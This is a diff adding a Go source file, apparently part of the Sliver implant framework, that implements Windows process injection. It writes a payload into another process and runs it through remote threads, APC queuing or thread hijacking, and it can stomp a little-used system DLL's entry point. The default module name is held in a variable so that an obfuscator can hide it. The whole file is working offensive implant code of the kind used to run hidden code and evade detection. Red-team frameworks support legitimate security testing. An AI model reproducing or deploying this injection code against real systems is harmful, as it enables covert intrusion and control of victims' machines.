@@ -0,0 +1,342 @@
+package taskrunner
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"debug/pe"
+	"errors"
+	"path/filepath"
+	"strings"
+	"unsafe"
+
+	// {{if .Config.Debug}}
+	"log"
+	// {{end}}
+
+	"github.com/bishopfox/sliver/implant/sliver/ntapi"
+	"github.com/bishopfox/sliver/implant/sliver/syscalls"
+	"golang.org/x/sys/windows"
+)
+
+const (
+	threadAccess = windows.THREAD_GET_CONTEXT | windows.THREAD_SET_CONTEXT | windows.THREAD_SUSPEND_RESUME |
+		windows.THREAD_QUERY_INFORMATION | windows.SYNCHRONIZE
+
+	loadModuleTimeout = 30 * 1000 // Milliseconds
+)
+
+var (
+	// ErrNoThreads - The process doesn't have a thread we can open
+	ErrNoThreads = errors.New("no threads found in the process")
+	// ErrPayloadTooLarge - The payload doesn't fit in the stomped module's code section
+	ErrPayloadTooLarge = errors.New("payload is larger than the module's code section")
+	// ErrModuleNotLoaded - The process failed to load the module we want to stomp
+	ErrModuleNotLoaded = errors.New("failed to load the module into the process")
+
+	// A large dll that's rarely loaded, so stomping it doesn't break the process
+	// We make this a var so the string obfuscator can refactor it
+	defaultStompModule = "C:\\Windows\\System32\\xpsservices.dll"
+)
+
+// injectRemote - Write the payload into the process and execute it from the offset, with a
+// pointer to arg as its argument. Spawned processes were created suspended and their main
+// thread hasn't run yet. Returns a handle to the thread that runs the payload.
+func injectRemote(process windows.Handle, pid uint32, data []byte, offset uint32, arg []byte, rwxPages bool, spawned bool, injection Injection) (windows.Handle, error) {
+	technique := injection.technique()
+	// {{if .Config.Debug}}
+	log.Printf("injecting %d bytes into %d using %s", len(data), pid, technique)
+	// {{end}}
+	var err error
+	var startAddr uintptr
+	switch technique {
+	case InjectCreateRemoteThread, InjectAPC, InjectThreadHijack:
+		startAddr, err = writePayload(process, data, rwxPages)
+	case InjectModuleStomp:
+		startAddr, err = stompModule(process, data, injection.StompModule)
+	default:
+		return 0, ErrUnknownInjection
+	}
+	if err != nil {
+		return 0, err
+	}
+	startAddr += uintptr(offset)
+
+	argAddr := uintptr(0)
+	if 0 < len(arg) {
+		argAddr, err = allocAndWrite(arg, process, uint32(len(arg)))
+		if err != nil {
+			return 0, err
+		}
+	}
+
+	switch technique {
+	case InjectAPC:
+		return queueAPC(pid, startAddr, argAddr, spawned)
+	case InjectThreadHijack:
+		return hijackThread(process, pid, startAddr, argAddr, spawned)
+	default:
+		return createRemoteThread(process, startAddr, argAddr)
+	}
+}
+
+// writePayload - Allocate memory in the process and write the payload to it
+func writePayload(process windows.Handle, data []byte, rwxPages bool) (uintptr, error) {
+	size := uintptr(uint32(len(data)))
+	// {{if .Config.Debug}}
+	log.Println("allocating remote process memory ...")
+	// {{end}}
+	if rwxPages {
+		addr, err := ntapi.VirtualAlloc(process, size, windows.PAGE_EXECUTE_READWRITE)
+		if err != nil {
+			return 0, err
+		}
+		err = ntapi.WriteMemory(process, addr, data)
+		return addr, err
+	}
+	addr, err := allocAndWrite(data, process, uint32(len(data)))
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("[!] failed to write data into remote process: %s", err)
+		// {{end}}
+		return 0, err
+	}
+	var oldProtect uint32
+	err = ntapi.VirtualProtect(process, addr, size, windows.PAGE_EXECUTE_READ, &oldProtect)
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Println("VirtualProtect failed:", err)
+		// {{end}}
+		return 0, err
+	}
+	return addr, nil
+}
+
+func createRemoteThread(process windows.Handle, startAddr uintptr, argAddr uintptr) (windows.Handle, error) {
+	// {{if .Config.Debug}}
+	log.Printf("starting remote thread at 0x%08x", startAddr)
+	// {{end}}
+	return ntapi.CreateThread(process, startAddr, argAddr, false)
+}
+
+// queueAPC - Queue the payload on the process' first thread, a spawned process' main thread
+// runs it as soon as it's resumed, before the process' entry point. Other processes only
+// run it once the thread enters an alertable wait.
+func queueAPC(pid uint32, startAddr uintptr, argAddr uintptr, spawned bool) (windows.Handle, error) {
+	thread, err := openFirstThread(pid)
+	if err != nil {
+		return 0, err
+	}
+	err = syscalls.QueueUserAPC(startAddr, thread, argAddr)
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("QueueUserAPC failed: %s", err)
+		// {{end}}
+		windows.CloseHandle(thread)
+		return 0, err
+	}
+	if spawned {
+		_, err = windows.ResumeThread(thread)
+		if err != nil {
+			windows.CloseHandle(thread)
+			return 0, err
+		}
+	}
+	return thread, nil
+}
+
+// hijackThread - Point the process' first thread at the payload. A spawned process' main
+// thread starts the payload in place of the entry point, other threads are redirected
+// mid-execution and never return to what they were doing.
+func hijackThread(process windows.Handle, pid uint32, startAddr uintptr, argAddr uintptr, spawned bool) (windows.Handle, error) {
+	thread, err := openFirstThread(pid)
+	if err != nil {
+		return 0, err
+	}
+	if !spawned {
+		_, err = syscalls.SuspendThread(thread)
+		if err != nil {
+			windows.CloseHandle(thread)
+			return 0, err
+		}
+	}
+	ctx := syscalls.NewContext(threadContextFlags)
+	err = syscalls.GetThreadContext(thread, ctx)
+	if err == nil {
+		if spawned {
+			setThreadStart(ctx, startAddr, argAddr)
+		} else {
+			err = redirectThread(process, ctx, startAddr, argAddr)
+		}
+	}
+	if err == nil {
+		err = syscalls.SetThreadContext(thread, ctx)
+	}
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("failed to hijack thread: %s", err)
+		// {{end}}
+		if !spawned {
+			windows.ResumeThread(thread)
+		}
+		windows.CloseHandle(thread)
+		return 0, err
+	}
+	_, err = windows.ResumeThread(thread)
+	if err != nil {
+		windows.CloseHandle(thread)
+		return 0, err
+	}
+	return thread, nil
+}
+
+// openFirstThread - Open the first of the process' threads we have access to, in a
+// spawned process this is the main thread
+func openFirstThread(pid uint32) (windows.Handle, error) {
+	snapshot, err := windows.CreateToolhelp32Snapshot(windows.TH32CS_SNAPTHREAD, 0)
+	if err != nil {
+		return 0, err
+	}
+	defer windows.CloseHandle(snapshot)
+	entry := windows.ThreadEntry32{Size: uint32(unsafe.Sizeof(windows.ThreadEntry32{}))}
+	for err = windows.Thread32First(snapshot, &entry); err == nil; err = windows.Thread32Next(snapshot, &entry) {
+		if entry.OwnerProcessID != pid {
+			continue
+		}
+		thread, err := windows.OpenThread(threadAccess, false, entry.ThreadID)
+		if err == nil {
+			return thread, nil
+		}
+		// {{if .Config.Debug}}
+		log.Printf("failed to open thread %d: %s", entry.ThreadID, err)
+		// {{end}}
+	}
+	return 0, ErrNoThreads
+}
+
+// stompModule - Load the module into the process and overwrite the code at its entry
+// point with the payload, returns the address of the payload
+func stompModule(process windows.Handle, data []byte, module string) (uintptr, error) {
+	if module == "" {
+		module = defaultStompModule
+	}
+	entryPoint, available, err := moduleCodeSpace(module)
+	if err != nil {
+		return 0, err
+	}
+	if available < uint32(len(data)) {
+		return 0, ErrPayloadTooLarge
+	}
+	base, err := loadRemoteModule(process, module)
+	if err != nil {
+		return 0, err
+	}
+	addr := base + uintptr(entryPoint)
+	size := uintptr(uint32(len(data)))
+	// {{if .Config.Debug}}
+	log.Printf("stomping %s at 0x%08x", module, addr)
+	// {{end}}
+	var oldProtect uint32
+	err = ntapi.VirtualProtect(process, addr, size, windows.PAGE_READWRITE, &oldProtect)
+	if err != nil {
+		return 0, err
+	}
+	err = ntapi.WriteMemory(process, addr, data)
+	if err != nil {
+		return 0, err
+	}
+	err = ntapi.VirtualProtect(process, addr, size, oldProtect, &oldProtect)
+	if err != nil {
+		return 0, err
+	}
+	return addr, nil
+}
+
+// moduleCodeSpace - The rva of the module's entry point, and how many bytes there are
+// from the entry point to the end of its section
+func moduleCodeSpace(module string) (uint32, uint32, error) {
+	file, err := pe.Open(module)
+	if err != nil {
+		return 0, 0, err
+	}
+	defer file.Close()
+	var entryPoint uint32
+	switch header := file.OptionalHeader.(type) {
+	case *pe.OptionalHeader64:
+		entryPoint = header.AddressOfEntryPoint
+	case *pe.OptionalHeader32:
+		entryPoint = header.AddressOfEntryPoint
+	}
+	for _, section := range file.Sections {
+		if section.VirtualAddress <= entryPoint && entryPoint < section.VirtualAddress+section.VirtualSize {
+			return entryPoint, section.VirtualAddress + section.VirtualSize - entryPoint, nil
+		}
+	}
+	return 0, 0, ErrPayloadTooLarge
+}
+
+// loadRemoteModule - Load the module into the process (if it isn't already), returns its base
+func loadRemoteModule(process windows.Handle, module string) (uintptr, error) {
+	base, err := remoteModuleBase(process, filepath.Base(module))
+	if err == nil {
+		return base, nil
+	}
+	path, err := windows.UTF16FromString(module)
+	if err != nil {
+		return 0, err
+	}
+	pathBytes := unsafe.Slice((*byte)(unsafe.Pointer(&path[0])), len(path)*2)
+	pathAddr, err := allocAndWrite(pathBytes, process, uint32(len(pathBytes)))
+	if err != nil {
+		return 0, err
+	}
+	loadLibrary := windows.NewLazySystemDLL("kernel32.dll").NewProc("LoadLibraryW")
+	err = loadLibrary.Find()
+	if err != nil {
+		return 0, err
+	}
+	// kernel32 is mapped at the same address in every process
+	thread, err := createRemoteThread(process, loadLibrary.Addr(), pathAddr)
+	if err != nil {
+		return 0, err
+	}
+	windows.WaitForSingleObject(thread, loadModuleTimeout)
+	windows.CloseHandle(thread)
+	return remoteModuleBase(process, filepath.Base(module))
+}
+
+func remoteModuleBase(process windows.Handle, name string) (uintptr, error) {
+	modules := make([]windows.Handle, 1024)
+	var needed uint32
+	err := windows.EnumProcessModulesEx(process, &modules[0], uint32(len(modules))*uint32(unsafe.Sizeof(modules[0])), &needed, windows.LIST_MODULES_ALL)
+	if err != nil {
+		return 0, err
+	}
+	count := needed / uint32(unsafe.Sizeof(modules[0]))
+	if uint32(len(modules)) < count {
+		count = uint32(len(modules))
+	}
+	baseName := make([]uint16, windows.MAX_PATH)
+	for _, module := range modules[:count] {
+		err = windows.GetModuleBaseName(process, module, &baseName[0], uint32(len(baseName)))
+		if err == nil && strings.EqualFold(windows.UTF16ToString(baseName), name) {
+			return uintptr(module), nil
+		}
+	}
+	return 0, ErrModuleNotLoaded
+}